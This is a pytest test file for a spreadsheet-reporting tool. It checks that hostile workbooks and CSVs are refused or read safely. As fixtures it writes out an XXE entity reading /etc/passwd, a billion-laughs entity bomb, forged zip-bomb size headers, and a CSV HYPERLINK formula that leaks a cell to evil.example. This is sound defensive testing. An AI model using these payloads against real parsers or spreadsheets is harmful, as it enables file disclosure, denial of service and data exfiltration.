"""Hostile or broken inputs: XML attacks, zip bombs, files that are not what they claim.

Each must end in one clear stderr line naming the file and exit code 2 (or, for the XML
attacks, be read safely), never a traceback, never the content of another file.
"""

from __future__ import annotations

import io
import os
import re
import struct
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from engagement_report import pipeline
from engagement_report.cli import app
from engagement_report.config import Config
from engagement_report.errors import InputError
from engagement_report.loading import xlsx

SHEET_PART = "xl/worksheets/sheet1.xml"
WORKBOOK_PART = "xl/workbook.xml"
XXE = '<!DOCTYPE {root} [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<!DOCTYPE {root} [<!ENTITY lol0 "lol">'
    + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    + "]>"
)


def minimal_xlsx(path: Path) -> Path:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "queries"
    sheet.append(["query_id", "received_at", "status", "topic"])
    sheet.append([1, "05.01.2021", "closed", "CELL"])
    workbook.save(path)
    return path


def patched_xlsx(tmp_path: Path, name: str, part: str, patch: dict[str, str]) -> Path:
    """A copy of a minimal openpyxl workbook with text replaced in one XML part."""
    source = minimal_xlsx(tmp_path / "base.xlsx")
    with zipfile.ZipFile(source) as archive:
        parts = {info.filename: archive.read(info) for info in archive.infolist()}
    text = parts[part].decode("utf-8")
    for old, new in patch.items():
        assert old in text, (old, text[:400])
        text = text.replace(old, new, 1)
    parts[part] = text.encode("utf-8")
    target = tmp_path / name
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for filename, data in parts.items():
            archive.writestr(filename, data)
    return target


def with_doctype(part_text_root: str, doctype: str) -> dict[str, str]:
    """Patch mapping that puts ``doctype`` before the part's root element."""
    return {f"<{part_text_root} ": doctype.format(root=part_text_root) + f"<{part_text_root} "}


def validate(*args: str | Path) -> tuple[int, str, str]:
    result = CliRunner().invoke(app, ["validate", *map(str, args)])
    assert isinstance(result.exception, SystemExit | None), result.exception
    assert "Traceback" not in result.stderr
    return result.exit_code, result.stdout, result.stderr


def assert_unreadable(path: Path, *fragments: str) -> str:
    code, stdout, stderr = validate(path)
    assert code == 2, (stdout, stderr)
    assert stdout == ""
    [line] = stderr.strip().splitlines()
    assert line.startswith(f"error: {path}")
    for fragment in fragments:
        assert fragment in line
    return line


def assert_no_secret(*texts: str) -> None:
    passwd = Path("/etc/passwd")
    secret = passwd.read_text(errors="replace").splitlines()[0] if passwd.exists() else "root:"
    for text in texts:
        assert "root:" not in text
        assert secret not in text


# --- XML attacks --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "part", "root", "doctype", "use"),
    [
        ("xxe-cell.xlsx", SHEET_PART, "worksheet", XXE, {"CELL": "&e;"}),
        ("xxe-declared.xlsx", SHEET_PART, "worksheet", XXE, {}),
        ("xxe-workbook.xlsx", WORKBOOK_PART, "workbook", XXE, {'name="queries"': 'name="&e;"'}),
        ("xxe-workbook-declared.xlsx", WORKBOOK_PART, "workbook", XXE, {}),
        ("laughs-cell.xlsx", SHEET_PART, "worksheet", LAUGHS, {"CELL": "&lol9;"}),
        ("laughs-workbook.xlsx", WORKBOOK_PART, "workbook", LAUGHS, {}),
    ],
)
def test_xml_entities_are_never_expanded(
    tmp_path: Path, name: str, part: str, root: str, doctype: str, use: dict[str, str]
) -> None:
    path = patched_xlsx(tmp_path, name, part, {**with_doctype(root, doctype), **use})
    code, stdout, stderr = validate("--format", "json", path)
    assert_no_secret(stdout, stderr)
    assert "lollollol" not in stdout + stderr
    if code == 2:
        [line] = stderr.strip().splitlines()
        assert line.startswith(f"error: {path}")
        assert re.search(r"entit|DTD", line), line
    else:
        # read safely: the declaration did nothing, the row is there as written
        assert code == 0, stderr
        assert '"used": 1' in stdout
    # and through the library: the cell never holds the file's or the entities' text
    try:
        data = pipeline.load_and_validate([path], Config())
    except InputError as exc:
        assert str(exc).startswith(str(path))
    else:
        assert_no_secret(*map(str, data.queries["topic"].tolist()))


def test_entity_attack_in_the_workbook_part_is_refused_clearly(tmp_path: Path) -> None:
    path = patched_xlsx(
        tmp_path, "evil.xlsx", WORKBOOK_PART, with_doctype("workbook", XXE)
    )  # declared only: calamine ignores it, the row-number scan must not choke on it
    line = assert_unreadable(path, "refused", "DTD or entities")
    assert "EntitiesForbidden" in line


def test_billion_laughs_does_not_blow_up_memory(tmp_path: Path) -> None:
    path = patched_xlsx(
        tmp_path,
        "laughs.xlsx",
        SHEET_PART,
        {**with_doctype("worksheet", LAUGHS), "CELL": "&lol9;"},
    )
    script = (
        "import sys\n"
        "from engagement_report import pipeline\n"
        "from engagement_report.config import Config\n"
        "from engagement_report.errors import InputError\n"
        "try:\n"
        "    pipeline.load_and_validate([sys.argv[1]], Config())\n"
        "except InputError as exc:\n"
        "    print('InputError', exc)\n"
        # VmHWM, not ru_maxrss: a child forked from pytest keeps the parent's peak in
        # ru_maxrss across exec (1.1 GB late in a full suite), VmHWM is its own.
        "peak = [l for l in open('/proc/self/status') if l.startswith('VmHWM')][0]\n"
        "print('maxrss_kb', peak.split()[1])\n"
    )
    run = subprocess.run(
        [sys.executable, "-c", script, str(path)],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert run.returncode == 0, run.stderr
    maxrss_kb = int(run.stdout.rsplit("maxrss_kb", 1)[1])
    assert maxrss_kb < 1024 * 1024  # a billion laughs would need about 3 GB
    assert "lollollol" not in run.stdout


# --- zip bombs ----------------------------------------------------------------------------


def test_absurd_uncompressed_size_is_refused_before_reading(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import fastexcel

    path = minimal_xlsx(tmp_path / "big.xlsx")
    monkeypatch.setattr(xlsx, "MAX_UNCOMPRESSED_BYTES", 1000)

    def must_not_read(*args: object, **kwargs: object) -> None:
        raise AssertionError("the workbook was read before its size was checked")

    monkeypatch.setattr(fastexcel, "read_excel", must_not_read)
    assert_unreadable(path, "refused: the workbook would unpack to", "decompression bomb")


def test_declared_sizes_beyond_the_limit_are_refused(tmp_path: Path) -> None:
    # Two members each declaring 4 GiB - 1 uncompressed: 8 GiB, over the real limit,
    # refused from the zip directory alone (nothing is inflated).
    raw = bytearray(minimal_xlsx(tmp_path / "base.xlsx").read_bytes())
    headers = [m.start() for m in re.finditer(rb"PK\x01\x02", bytes(raw))]
    for offset in headers[:2]:
        struct.pack_into("<I", raw, offset + 24, 0xFFFFFFFF)
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(bytes(raw))
    with zipfile.ZipFile(path) as archive:
        assert sum(i.file_size for i in archive.infolist()) > xlsx.MAX_UNCOMPRESSED_BYTES
    assert_unreadable(path, "refused: the workbook would unpack to")


# --- files that are not what they claim ---------------------------------------------------


def test_encrypted_workbook(tmp_path: Path) -> None:
    path = tmp_path / "secret.xlsx"
    path.write_bytes(bytes.fromhex("D0CF11E0A1B11AE1") + os.urandom(2048))
    assert_unreadable(path, "password-protected")


def test_encrypted_workbook_from_the_installed_command(tmp_path: Path) -> None:
    path = tmp_path / "secret.xlsx"
    path.write_bytes(bytes.fromhex("D0CF11E0A1B11AE1") + b"\x00" * 512)
    run = subprocess.run(
        [sys.executable, "-m", "engagement_report", "validate", path.name],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "NO_COLOR": "1"},
        check=False,
    )
    assert run.returncode == 2
    assert run.stdout == ""
    assert run.stderr.startswith("error: secret.xlsx: this is a password-protected")
    assert len(run.stderr.strip().splitlines()) == 1
    assert "Traceback" not in run.stderr


def test_text_file_renamed_xlsx(tmp_path: Path) -> None:
    path = tmp_path / "report.xlsx"
    path.write_text("date,questions\n05.01.2021,3\n", encoding="utf-8")
    assert_unreadable(path, "not a spreadsheet", "zip archive", "b'date'")


def test_truncated_workbook(tmp_path: Path) -> None:
    whole = minimal_xlsx(tmp_path / "whole.xlsx").read_bytes()
    path = tmp_path / "cut.xlsx"
    path.write_bytes(whole[: len(whole) // 2])
    assert_unreadable(path)


def test_zip_that_is_not_a_workbook(tmp_path: Path) -> None:
    path = tmp_path / "photos.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("photo.jpg", b"\xff\xd8\xff" + b"0" * 100)
    assert_unreadable(path, "cannot read as a workbook")


def test_workbook_renamed_csv(tmp_path: Path) -> None:
    path = tmp_path / "queries.csv"
    path.write_bytes(minimal_xlsx(tmp_path / "book.xlsx").read_bytes())
    assert_unreadable(path, "not a text CSV file")


@pytest.mark.parametrize(("name", "content"), [("empty.csv", b""), ("blank.csv", b"\r\n \n")])
def test_empty_csv(tmp_path: Path, name: str, content: bytes) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    assert_unreadable(path, "the file is empty")


def test_empty_xlsx(tmp_path: Path) -> None:
    path = tmp_path / "empty.xlsx"
    path.write_bytes(b"")
    assert_unreadable(path, "the file is empty (0 bytes)")


def test_unsupported_extension(tmp_path: Path) -> None:
    path = tmp_path / "report.pdf"
    path.write_bytes(b"%PDF-1.7\n")
    assert_unreadable(path, "unsupported file type '.pdf'", "expected .csv, .xlsx")


def test_csv_missing_required_column(tmp_path: Path) -> None:
    path = tmp_path / "broadcasts.csv"
    path.write_text("date,programme,speaker\n05.01.2021,Morning,Mayor\n", encoding="utf-8")
    line = assert_unreadable(path, "required column(s) questions_answered not found")
    assert "Headers present: 'date', 'programme', 'speaker'" in line
    assert "questions_answered: 'questions_answered', 'questions', 'количество вопросов'" in line


def test_one_unreadable_file_stops_the_run(tmp_path: Path) -> None:
    good = tmp_path / "queries.csv"
    good.write_text("received_at,status\n05.01.2021,open\n", encoding="utf-8")
    bad = tmp_path / "эфиры.xlsx"
    bad.write_text("not a workbook", encoding="utf-8")
    code, stdout, stderr = validate(good, bad)
    assert (code, stdout) == (2, "")
    assert stderr.startswith(f"error: {bad}: not a spreadsheet")


# --- rejected.csv -------------------------------------------------------------------------


def test_rejected_csv_neutralises_formulas(tmp_path: Path) -> None:
    source = tmp_path / "эфиры.csv"
    source.write_text(
        "date,program,questions,speaker\n"
        '"=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",Утро,3,Аким\n'
        "05.01.2021,+1 Утро,-2,@SUM(A1:A9)\n"
        "06.01.2021,Вечер,много,-Аким\n"
        "07.01.2021,Вечер,4,Аким\n",
        encoding="utf-8",
    )
    out = tmp_path / "out"
    result = pipeline.build([source], Config(), period="2021-01", out=out)
    assert result.data.report.rejected == 3
    assert (out / "rejected.csv").exists()
    frame = pd.read_csv(out / "rejected.csv", dtype=str, keep_default_na=False)
    assert frame["row"].tolist() == ["2", "3", "4"]
    assert frame["date"].tolist() == [
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "05.01.2021",
        "06.01.2021",
    ]
    assert frame["program"].tolist() == ["Утро", "'+1 Утро", "Вечер"]
    assert frame["questions"].tolist() == ["3", "-2", "много"]  # a number stays a number
    assert frame["speaker"].tolist() == ["Аким", "'@SUM(A1:A9)", "'-Аким"]
    for column in frame.columns:
        for cell in frame[column]:
            if cell != "-2":
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    # what a spreadsheet would see: no cell of the raw file starts a formula either
    raw = pd.read_csv(io.StringIO((out / "rejected.csv").read_text(encoding="utf-8")), dtype=str)
    assert not raw.stack().str.match(r"^([=+@]|-[^\d])").any()


def test_no_reference_to_the_shared_data_folder() -> None:
    """The real extracts are copied into tests/data; nothing reads the shared folder."""
    root = Path(__file__).resolve().parents[1]
    mine = ["test_loading.py", "test_validation.py", "test_accounting.py", "test_real_exports.py"]
    paths = [root / "tests" / name for name in mine]
    for folder in ("engagement_report", "templates", "examples", "tests/data"):
        paths += [p for p in (root / folder).rglob("*") if p.is_file()]
    marker = "/work/" + "shared"
    for path in paths:
        if path.suffix in {".py", ".toml", ".j2", ".md", ".csv", ".txt"}:
            assert marker not in path.read_text(encoding="utf-8", errors="replace"), path
